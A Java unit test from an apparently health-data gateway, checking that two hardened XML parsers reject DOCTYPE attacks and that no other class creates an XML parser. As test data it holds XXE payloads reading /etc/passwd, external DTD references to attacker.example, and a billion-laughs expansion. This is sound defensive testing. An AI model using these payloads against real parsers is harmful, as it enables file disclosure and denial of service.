package fr.passerelle.gateway;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.tngtech.archunit.core.domain.JavaClasses;
import fr.passerelle.trust.xml.UnsafeXmlException;
import fr.passerelle.trust.xml.XmlLimits;
import fr.passerelle.gateway.testsupport.ProductionClasses;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.SAXParserFactory;
import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamReader;
import javax.xml.validation.SchemaFactory;
import org.junit.jupiter.api.Test;

/**
 * Outside XML is read through one of two hardened entry points, which the module rules keep apart:
 * {@code trust.xml.HardenedXml} (the trust module, the gateway's messages and assertions) and
 * {@code terminology.xml.HardenedXml} (terminology files and clinical documents, for terminology and translation).
 * Both follow one recipe with one set of limits (docs/security.md, XML parsing); no other class makes a parser.
 */
class OneXmlRecipeTest {

    private static final fr.passerelle.trust.xml.HardenedXml TRUST =
            new fr.passerelle.trust.xml.HardenedXml(XmlLimits.ENVELOPE);

    static List<String> attacks() {
        StringBuilder laughs = new StringBuilder("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>");
        for (int i = 1; i < 10; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" '")
                    .append(("&lol" + (i == 1 ? "" : String.valueOf(i - 1)) + ";").repeat(10)).append("'>");
        }
        return List.of(
                "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://attacker.example/evil.dtd'>%p;]><r/>",
                "<!DOCTYPE r SYSTEM 'http://attacker.example/evil.dtd'><r/>",
                laughs.append("]><lolz>&lol9;</lolz>").toString(),
                "<!DOCTYPE r><r/>");
    }

    @Test
    void bothEntryPointsApplyTheSameLimits() {
        assertThat(List.of(fr.passerelle.terminology.xml.HardenedXml.MAX_BYTES,
                fr.passerelle.terminology.xml.HardenedXml.MAX_DEPTH,
                fr.passerelle.terminology.xml.HardenedXml.MAX_ATTRIBUTES_PER_ELEMENT,
                fr.passerelle.terminology.xml.HardenedXml.MAX_ELEMENTS))
                .containsExactly(XmlLimits.ENVELOPE.maxBytes(), XmlLimits.ENVELOPE.maxDepth(),
                        XmlLimits.ENVELOPE.maxAttributesPerElement(), XmlLimits.ENVELOPE.maxElements());
    }

    @Test
    void bothEntryPointsRefuseEveryDoctypeAttackAlike() {
        for (String attack : attacks()) {
            byte[] xml = attack.getBytes(StandardCharsets.UTF_8);
            assertThatThrownBy(() -> TRUST.parse(xml)).as(attack).isInstanceOf(UnsafeXmlException.class)
                    .hasMessage("a DOCTYPE is not allowed");
            assertThatThrownBy(() -> fr.passerelle.terminology.xml.HardenedXml.parse(xml)).as(attack)
                    .isInstanceOf(fr.passerelle.terminology.xml.UnsafeXmlException.class)
                    .hasMessage("a DOCTYPE is not allowed");
            assertThatThrownBy(() -> {
                XMLStreamReader r = fr.passerelle.terminology.xml.HardenedXml.streamReader(new ByteArrayInputStream(xml));
                while (r.hasNext()) {
                    r.next();
                }
            }).as(attack).isInstanceOf(XMLStreamException.class).hasMessageContaining("a DOCTYPE is not allowed");
        }
    }

    @Test
    void noOtherClassMakesAnXmlParser() {
        JavaClasses passerelle = ProductionClasses.passerelle();
        noClasses().that().doNotHaveFullyQualifiedName(fr.passerelle.trust.xml.HardenedXml.class.getName())
                .and().doNotHaveFullyQualifiedName(fr.passerelle.terminology.xml.HardenedXml.class.getName())
                // DOM helper of the messages that stay DOM (XCPD, XDR, DMP; issue 21): makes empty documents only
                .and().doNotHaveFullyQualifiedName("fr.passerelle.gateway.ihe.XmlTree")
                // compiles the gateway's own WSDL schemas from the classpath (secure processing, no other access);
                // the outside XML it validates is the DOM CXF already parsed, never parsed again
                .and().doNotHaveFullyQualifiedName("fr.passerelle.gateway.soap.BodySchemas")
                .should().dependOnClassesThat().belongToAnyOf(DocumentBuilderFactory.class, XMLInputFactory.class,
                        SAXParserFactory.class, SchemaFactory.class)
                .because("outside XML goes through a hardened entry point (docs/security.md, XML parsing)")
                .check(passerelle);
    }
}
